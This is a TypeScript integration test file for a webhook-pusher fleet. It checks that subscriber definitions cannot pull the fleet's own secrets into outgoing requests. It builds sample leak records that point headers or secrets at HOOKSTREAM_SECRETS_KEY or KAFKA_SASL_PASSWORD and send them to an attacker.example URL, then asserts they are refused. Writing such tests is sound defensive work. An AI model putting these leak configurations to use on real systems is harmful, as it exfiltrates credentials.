import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SUBSCRIBER_REGISTRY_TOPIC } from '@hookstream/contracts';
import { readTopic } from '@hookstream/kafka';
import { FleetProcess } from '@hookstream/pusher';
import { parseSecretsKey, readInstanceStatuses } from '@hookstream/subscribers';
import { afterAll, describe, expect, it } from 'vitest';
import { applyDefinitions, catalogEnv, handMadeRecord, produceRegistryRecords } from '../support/catalog.ts';
import { exited, spawnCli } from '../support/child.ts';
import { runCli } from '../support/cli.ts';
import { EventFactory } from '../support/events.ts';
import { uniqueName } from '../support/names.ts';
import { freePort } from '../support/ports.ts';
import { sample, scrape } from '../support/prometheus.ts';
import { KafkaFixture, type LogLine } from '../support/pushers.ts';
import { ReceiverPool } from '../support/receivers.ts';
import { endpoints } from '../support/stack.ts';
import { openForSuite } from '../support/suite.ts';
import { waitFor } from '../support/wait.ts';

// A catalog writer (apply, or a plain produce onto hookstream.subscribers) must not be able to
// make the fleet put one of its own settings, its secrets key above all, into a request.

const fx = new KafkaFixture();
const factory = new EventFactory();
const receivers = new ReceiverPool();
let fleet: FleetProcess | undefined;

/** Every record of the registry topic under these keys. */
function registryRecords(...keys: string[]) {
  return readTopic(fx.kafka, {
    topic: SUBSCRIBER_REGISTRY_TOPIC,
    keep: (r) => r.key !== null && keys.includes(r.key),
    purpose: 'test-catalog-rules',
  });
}

describe('definitions never read the fleet’s own secrets', () => {
  openForSuite(fx, factory, receivers);
  afterAll(async () => {
    await fleet?.stop();
  });

  it.each([
    [
      'a header naming the secrets key',
      { headers: { 'X-Leak': { env: 'HOOKSTREAM_SECRETS_KEY' } } },
      'headers.X-Leak.env',
      'HOOKSTREAM_HEADER_',
    ],
    [
      'a secret naming an unprefixed variable',
      { secret: { env: 'KAFKA_SASL_PASSWORD' } },
      'secret.env',
      'HOOKSTREAM_SECRET_',
    ],
  ])(
    'apply refuses %s, naming the file and the field, and writes nothing',
    async (_what, extra, field, prefix) => {
      const { env } = catalogEnv(await fx.topic(1));
      const name = uniqueName('rules-refused');
      const dir = await mkdtemp(join(tmpdir(), 'hookstream-rules-'));
      const file = join(dir, `${name}.json`);
      await writeFile(file, JSON.stringify({ name, url: 'https://attacker.example/hook', ...extra }));
      const run = await runCli(['subscribers', 'apply', file], env);
      expect(run.code).toBe(1);
      expect(run.stderr).toContain(`${file}: ${field}: may name only a variable starting with ${prefix}`);
      expect(run.stderr).toContain('nothing was written');
      expect(await registryRecords(name)).toEqual([]);
    },
  );

  it('the same record produced by hand is reported and skipped; an ordinary subscriber of the fleet keeps delivering', async () => {
    const topic = await fx.topic(2);
    const { env, secretsKey } = catalogEnv(topic);
    const prefix = uniqueName('rules');
    const ordinary = `${prefix}-ordinary`;
    const leak = `${prefix}-leak`;
    const oldLeak = `${prefix}-old-leak`;
    const endpoint = await receivers.start();
    const attacker = await receivers.start();
    await applyDefinitions(env, [
      {
        name: ordinary,
        url: endpoint.url,
        start: 'earliest',
        allowPrivateNetwork: true,
        rate: { perSecond: 500 },
      },
    ]);
    // What a catalog writer could produce without apply: today's version, and the previous one.
    const leaky = {
      url: attacker.url,
      start: 'earliest',
      allowPrivateNetwork: true,
      headers: { 'X-Leak': { env: 'HOOKSTREAM_SECRETS_KEY' } },
    };
    await produceRegistryRecords(fx.kafka, [
      { key: leak, value: handMadeRecord({ ...leaky, name: leak }) },
      { key: oldLeak, value: handMadeRecord({ ...leaky, name: oldLeak }, { version: 1 }) },
    ]);

    const metricsPort = await freePort();
    const instance = `${prefix}-fleet`;
    // A real fleet, started as the Helm chart starts one: its secrets key in its environment.
    const fleet = spawnCli(
      [
        'push',
        '--all',
        '--match',
        `${prefix}-*`,
        '--topic',
        topic,
        '--instance',
        instance,
        '--fetch-wait',
        '100',
        '--metrics-port',
        String(metricsPort),
      ],
      { ...env, HOOKSTREAM_SECRETS_KEY: secretsKey },
    );
    const done = exited(fleet);
    try {
      const skipped = (name: string) =>
        fleet
          .output()
          .split('\n')
          .some(
            (line) =>
              line.includes('subscriber record unusable; skipped') &&
              line.includes(`"subscriber":"${name}"`) &&
              line.includes('may name only a variable starting with HOOKSTREAM_HEADER_'),
          );
      await waitFor('the fleet to report both hand-made records', async () =>
        skipped(leak) && skipped(oldLeak) ? true : undefined,
      );
      const events = Array.from({ length: 6 }, () => factory.event('shipment.updated'));
      await fx.produce(topic, factory, events);
      await waitFor('the ordinary subscriber to receive every event', async () => {
        const got = new Set(endpoint.arrivals.filter((a) => a.status === 204).map((a) => a.eventId));
        return events.every((e) => got.has(e.id)) ? true : undefined;
      });
      const status = await waitFor('the fleet to report the skipped records as failed', async () => {
        const mine = (await readInstanceStatuses(fx.kafka)).find((s) => s.instance === instance);
        const failed = mine?.subscribers.filter((s) => s.state === 'failed').map((s) => s.name) ?? [];
        return failed.includes(leak) && failed.includes(oldLeak) ? mine : undefined;
      });
      expect(status.subscribers.find((s) => s.name === leak)?.error).toContain('HOOKSTREAM_HEADER_');
      expect(status.subscribers.find((s) => s.name === ordinary)?.state).toBe('running');
      const metrics = await scrape(`http://127.0.0.1:${metricsPort}/metrics`);
      expect(sample(metrics, 'hookstream_pusher_catalog_skipped_records')).toBe(2);
      expect(fleet.exitCode).toBeNull();
      // Nothing ever reached the attacker's URL, let alone the key.
      expect(attacker.arrivals).toEqual([]);
      expect(fleet.output()).not.toContain(secretsKey);
    } finally {
      fleet.kill('SIGTERM');
      await done;
    }
  }, 120_000);

  it('a managed header waits for its sealed value, then goes out with every request, and is never shown', async () => {
    const topic = await fx.topic(1);
    const { env, secretsKey } = catalogEnv(topic);
    const prefix = uniqueName('rules-hdr');
    const name = `${prefix}-api`;
    const endpoint = await receivers.start();
    const dir = await mkdtemp(join(tmpdir(), 'hookstream-hdr-'));
    const file = join(dir, `${name}.json`);
    await writeFile(
      file,
      JSON.stringify({
        name,
        url: endpoint.url,
        start: 'earliest',
        allowPrivateNetwork: true,
        headers: { 'X-Api-Key': { managed: true } },
      }),
    );
    const applied = await runCli(['subscribers', 'apply', file], env);
    expect(applied.code, applied.stderr).toBe(0);
    expect(applied.stdout).toContain(
      `header X-Api-Key is managed and has no value yet: hookstream subscribers header set ${name} X-Api-Key`,
    );
    const logs: LogLine[] = [];
    fleet = new FleetProcess({
      kafka: endpoints.kafka,
      registry: endpoints.registrySettings,
      topic,
      match: `${prefix}-*`,
      secretsKey: parseSecretsKey(secretsKey, 'the test key'),
      tierPartitions: 1,
      fetchWaitMs: 100,
      log: (level, message, fields = {}) => logs.push({ level, message, fields }),
      logFor: () => () => undefined,
    });
    await fleet.start();
    await waitFor('the fleet to report the missing value', async () =>
      logs.some((l) => l.fields.subscriber === name && String(l.fields.error).startsWith('NO_HEADER_VALUE'))
        ? true
        : undefined,
    );
    const event = factory.event('shipment.updated');
    await fx.produce(topic, factory, [event]);
    const valueFile = join(dir, 'api-key.txt');
    await writeFile(valueFile, 'k-0123456789\n');
    const set = await runCli(
      ['subscribers', 'header', 'set', name, 'X-Api-Key', '--value-file', valueFile],
      env,
    );
    expect(set.code, set.stderr).toBe(0);
    const arrival = await waitFor('the event with its header', async () =>
      endpoint.arrivals.find((a) => a.eventId === event.id && a.status === 204),
    );
    expect(arrival.headers?.['x-api-key']).toBe('k-0123456789');
    const shown = await runCli(['subscribers', 'show', name, '--json'], env);
    expect(shown.code, shown.stderr).toBe(0);
    expect(shown.stdout).not.toContain('k-0123456789');
    expect(JSON.parse(shown.stdout).sealedHeaders).toEqual({
      'X-Api-Key': expect.objectContaining({ keyId: expect.any(String) }),
    });
  }, 90_000);
});
